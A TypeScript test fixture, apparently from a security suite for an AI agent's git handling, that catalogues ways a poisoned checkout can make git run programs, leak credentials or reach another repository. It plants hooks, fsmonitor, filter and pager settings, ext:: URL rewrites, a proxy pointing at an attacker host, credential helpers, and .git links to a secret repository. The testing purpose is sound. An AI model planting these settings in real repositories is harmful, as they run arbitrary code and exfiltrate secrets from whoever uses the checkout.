import { chmod, cp, mkdir, rename, rm, symlink } from "node:fs/promises";
import { join } from "node:path";
import { agentGit } from "./triage-fixture.ts";

/** What an attack may use: all of it lies on the host and none of it may be touched or read. */
export interface PoisonGround {
  checkout: string;
  /** A shell command that leaves the marker, reads the canary and sends it off. */
  command: string;
  /** Another repository on the host, with a commit that nobody may see upstream. */
  secretRepository: string;
  secretOid: string;
  /** `host:port` of a server of the attacker's. */
  attacker: string;
  branch: string;
}

export interface Poison {
  /** Row of SECURITY.md B4.2, then what is planted. */
  name: string;
  /** `arrives`: exactly the agent's commit is pushed. `closed`: nothing is. */
  end: "arrives" | "closed";
  plant(ground: PoisonGround): Promise<void>;
}

/** Every way a checkout has made some git run a program, leave its folder or send a credential elsewhere. */
export const POISONS: readonly Poison[] = [
  { name: "HG-01 hooks", end: "arrives", plant: hooks },
  configured("HG-02 core.hooksPath", async (ground) => {
    await executable(join(ground.checkout, ".git", "elsewhere", "pre-push"), ground.command);
    await executable(join(ground.checkout, ".git", "elsewhere", "reference-transaction"), ground.command);
    return `[core]\n\thooksPath = ${join(ground.checkout, ".git", "elsewhere")}\n`;
  }),
  configured("HG-02 core.fsmonitor", async ({ command }) => `[core]\n\tfsmonitor = ${quoted(command)}\n`),
  included("HG-02 core.fsmonitor by include.path", "include"),
  included("HG-02 core.fsmonitor by includeIf", 'includeIf "gitdir:**"'),
  configured("HG-02 core.fsmonitor by config.worktree", async ({ checkout, command }) => {
    await Bun.write(join(checkout, ".git", "config.worktree"), `[core]\n\tfsmonitor = ${quoted(command)}\n`);
    return "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n";
  }),
  configured("HG-03 filters", async (ground) => {
    await Bun.write(join(ground.checkout, ".gitattributes"), "* filter=x\n");
    await Bun.write(join(ground.checkout, ".git", "info", "attributes"), "* filter=x\n");
    const run = quoted(ground.command);
    return `[filter "x"]\n\tclean = ${run}\n\tsmudge = ${run}\n\tprocess = ${run}\n\trequired = true\n`;
  }),
  configured("HG-04 diff, merge, pager, editor and signing programs", async (ground) => {
    await Bun.write(join(ground.checkout, ".git", "info", "attributes"), "* diff=x merge=x\n");
    const run = quoted(ground.command);
    return [
      `[diff]\n\texternal = ${run}\n[diff "x"]\n\ttextconv = ${run}\n\tcommand = ${run}\n[merge "x"]\n\tdriver = ${run}\n`,
      `[core]\n\tpager = ${run}\n\teditor = ${run}\n\taskPass = ${run}\n\talternateRefsCommand = ${run}\n`,
      `[gpg]\n\tprogram = ${run}\n[commit]\n\tgpgSign = true\n[push]\n\tgpgSign = true\n[pager]\n\tbundle = ${run}\n`,
    ].join("");
  }),
  configured("HG-05 transports and remotes", async ({ command, secretRepository }) => {
    const run = quoted(command);
    return [
      `[core]\n\tsshCommand = ${run}\n\tgitProxy = ${run}\n[ssh]\n\tvariant = ${run}\n`,
      `[remote "origin"]\n\turl = ${secretRepository}\n\tpushurl = ${secretRepository}\n\tmirror = true\n`,
      `\treceivepack = ${run}\n\tuploadpack = ${run}\n\tvcs = ext\n[push]\n\tdefault = matching\n`,
    ].join("");
  }),
  configured("HG-06 rewritten addresses", async ({ command, attacker }) =>
    [
      `[protocol "ext"]\n\tallow = always\n[url "ext::sh -c ${command.replaceAll('"', "'").replaceAll(" ", "% ")}"]\n`,
      `\tinsteadOf = http://\n\tpushInsteadOf = http://\n[url "http://${attacker}/"]\n\tinsteadOf = http://127\n`,
    ].join(""),
  ),
  configured(
    "HG-07 proxies, headers, cookies and credential helpers",
    async ({ command, attacker, checkout }) => {
      const run = quoted(`!${command}`);
      return [
        `[http]\n\tproxy = http://${attacker}\n\tsslVerify = false\n\tsslCAInfo = /dev/null\n`,
        `\textraHeader = X-Stolen: 1\n\tcookieFile = ${checkout}/cookies\n\tsaveCookies = true\n\tfollowRedirects = true\n`,
        `[credential]\n\thelper = ${run}\n`,
      ].join("");
    },
  ),
  {
    name: "HG-08 .git as a file that names another repository",
    end: "closed",
    async plant({ checkout, secretRepository }) {
      await rm(join(checkout, ".git"), { recursive: true });
      await Bun.write(join(checkout, ".git"), `gitdir: ${secretRepository}\n`);
    },
  },
  {
    name: "HG-08 .git as a link to another repository",
    end: "closed",
    async plant({ checkout, secretRepository }) {
      await rm(join(checkout, ".git"), { recursive: true });
      await symlink(secretRepository, join(checkout, ".git"));
    },
  },
  {
    name: "HG-09 alternates that lend another repository's commit",
    end: "closed",
    async plant({ checkout, secretRepository, secretOid, branch }) {
      const info = join(checkout, ".git", "objects", "info");
      await mkdir(info, { recursive: true });
      await Bun.write(join(info, "alternates"), `${join(secretRepository, "objects")}\n`);
      await Bun.write(join(checkout, ".git", "refs", "heads", branch), `${secretOid}\n`);
    },
  },
  {
    name: "HG-10 .git moved away and copied back",
    end: "arrives",
    async plant(ground) {
      await rename(join(ground.checkout, ".git"), join(ground.checkout, ".g"));
      await cp(join(ground.checkout, ".g"), join(ground.checkout, ".git"), { recursive: true });
      await hooks(ground);
    },
  },
];

async function hooks({ checkout, command }: PoisonGround): Promise<void> {
  const names = [
    "pre-push",
    "reference-transaction",
    "post-checkout",
    "post-index-change",
    "pre-auto-gc",
    "post-rewrite",
  ];
  for (const name of names) await executable(join(checkout, ".git", "hooks", name), command);
}

function configured(name: string, lines: (ground: PoisonGround) => Promise<string>): Poison {
  return {
    name,
    end: "arrives",
    async plant(ground) {
      const file = join(ground.checkout, ".git", "config");
      await Bun.write(file, `${await Bun.file(file).text()}${await lines(ground)}`);
      // A setting git cannot read would prove nothing.
      await agentGit(ground.checkout, "config", "--list");
    },
  };
}

function included(name: string, section: string): Poison {
  return configured(name, async ({ checkout, command }) => {
    await Bun.write(join(checkout, "included"), `[core]\n\tfsmonitor = ${quoted(command)}\n`);
    return `[${section}]\n\tpath = ${join(checkout, "included")}\n`;
  });
}

async function executable(path: string, command: string): Promise<void> {
  await mkdir(join(path, ".."), { recursive: true });
  await Bun.write(path, `#!/bin/sh\n${command}\n`);
  await chmod(path, 0o755);
}

function quoted(command: string): string {
  return `"${command.replaceAll("\\", "\\\\").replaceAll('"', '\\"')}"`;
}
